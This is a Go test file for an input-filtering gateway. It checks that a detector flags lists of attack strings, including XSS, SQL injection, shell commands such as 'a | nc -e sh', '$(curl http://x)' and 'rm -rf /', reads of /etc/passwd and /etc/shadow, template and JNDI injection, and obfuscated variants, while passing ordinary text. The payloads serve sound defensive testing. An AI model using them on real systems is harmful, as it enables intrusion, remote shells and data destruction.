package gateway_test

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/redoubt-ml/redoubt/internal/need"
	"github.com/redoubt-ml/redoubt/serve/gateway"
)

// Attacks as lists of them have them, and in the disguises that they take.
var attacks = map[string][]string{
	"script":         {`<script>alert(1)</script>`, `<ScRiPt src=//x>`, `&lt;script&gt;alert(1)`, `%3Cscript%3E`, `%253Cscript%253E`, `＜script＞`, "<scr\u200bipt>", `<svg onload=alert(1)>`},
	"event-handler":  {`<img src=x onerror=alert(1)>`, `<body onload = go()>`},
	"script-url":     {`javascript:alert(1)`, `JaVaScRiPt&#58;alert(1)`, `data:text/html,<b>`},
	"sql-union":      {`1 UNION SELECT username, password FROM users`, `1' union all select null,null--`, `1/**/UNION/**/SELECT/**/1,2`, `x' /*!50000UNION*/ /*!SELECT*/ 1`, `1%20union%0aselect%20*`},
	"sql-stacked":    {`'; DROP TABLE users; --`, `1); drop table loans`, `x; delete from users`, `1; EXEC xp_who`},
	"sql-tautology":  {`' OR '1'='1`, `admin' or 1=1--`, `" or ""="`, `') or ('a'='a`, `1 or 1=1 --`},
	"sql-function":   {`1 and sleep(5)`, `pg_sleep ( 10 )`, `load_file('/etc/hosts')`},
	"shell-call":     {`system('id')`, `os.system("ls")`, `subprocess.Popen(["sh"])`, `exec ("x")`},
	"shell-command":  {`x; cat /etc/hosts`, `a | nc -e sh`, "`whoami`", `$(curl http://x)`, `1 && rm -rf /`},
	"path-traversal": {`../../../etc/passwd`, `..%2f..%2fetc/passwd`, `..\..\windows\win.ini`, `/etc/shadow`},
	"template":       {`{{7*7}}`, `{{config.items()}}`, `${jndi:ldap://x/a}`, `<%= 7 %>`, `{{ ''.__class__ }}`},
	"null-byte":      {"a\x00b", `a%00b`},
}

func TestMalicious(t *testing.T) {
	for name, texts := range attacks {
		for _, text := range texts {
			p := gateway.Malicious(text)
			if p == nil {
				t.Errorf("%q is let through, want %s", text, name)
			} else if p.Name != name && !overlap(p.Name, name) {
				t.Errorf("%q is %s, want %s", text, p.Name, name)
			}
		}
	}
	if len(attacks) != len(gateway.Patterns) {
		t.Errorf("%d kinds tested of %d", len(attacks), len(gateway.Patterns))
	}
}

// overlap: an attack may be seen by an earlier pattern too.
func overlap(got, want string) bool {
	for _, p := range gateway.Patterns {
		if p.Name == got {
			return true
		}
		if p.Name == want {
			return false
		}
	}
	return false
}

// Ordinary text, some of it about the very things.
func TestOrdinaryTextPasses(t *testing.T) {
	for _, text := range []string{
		"The European Union selects its commissioners in July.", "Please select a union and drop the table off at 5.",
		"Our system (the new one) is down; update me.", "He said: 'or is it 5?' and left.", "rock & roll; cat and mouse | dogs",
		"20% off! 100%", "A < B and B > C", "prices: 5, 6; delete the last", "O'Brien or O'Neil", "call me on Monday=5pm",
		"javascript: the good parts", "SELECT committee on union affairs", "see ../notes for more", "I { love } braces {{sometimes}}",
		"the executive (exec) committee", "data: text and numbers", "",
	} {
		if p := gateway.Malicious(text); p != nil {
			t.Errorf("%q is taken for %s", text, p.Name)
		}
	}
}

// Sentences with personal data, none of them an attack.
func TestFalseAlarmsOnSentences(t *testing.T) {
	f, err := os.Open(need.Data(t, "text/presidio_synth_v2_dev.json.gz"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var sentences []struct {
		Text string `json:"full_text"`
	}
	if err := json.NewDecoder(z).Decode(&sentences); err != nil {
		t.Fatal(err)
	}
	if len(sentences) < 1000 {
		t.Fatalf("%d sentences", len(sentences))
	}
	for _, s := range sentences {
		if p := gateway.Malicious(s.Text); p != nil {
			t.Errorf("%q is taken for %s", s.Text, p.Name)
		}
	}
}

// Real mails without HTML: code, shell sessions and quotations among them.
// The rate is published in docs/benchmarks.md.
func TestFalseAlarmsOnMail(t *testing.T) {
	f, err := os.Open(need.Data(t, "text/spamassassin_sample.jsonl.gz"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	lines, n, alarms := bufio.NewScanner(z), 0, map[string]int{}
	lines.Buffer(nil, 8<<20)
	for lines.Scan() {
		var mail map[string]any
		if err := json.Unmarshal(lines.Bytes(), &mail); err != nil {
			t.Fatal(err)
		}
		text, label := "", ""
		for _, v := range mail {
			if s, ok := v.(string); ok && len(s) > len(text) {
				text = s
			}
		}
		for _, v := range mail {
			if s, ok := v.(string); ok && (s == "ham" || s == "spam") {
				label = s
			}
		}
		_, body, _ := strings.Cut(strings.ReplaceAll(text, "\r\n", "\n"), "\n\n")
		if label == "spam" || strings.Contains(strings.ToLower(text), "<html") {
			continue
		}
		n++
		if p := gateway.Malicious(body); p != nil {
			alarms[p.Name]++
			t.Logf("%s", p.Name)
		}
	}
	t.Logf("%d mails: %v", n, alarms)
}
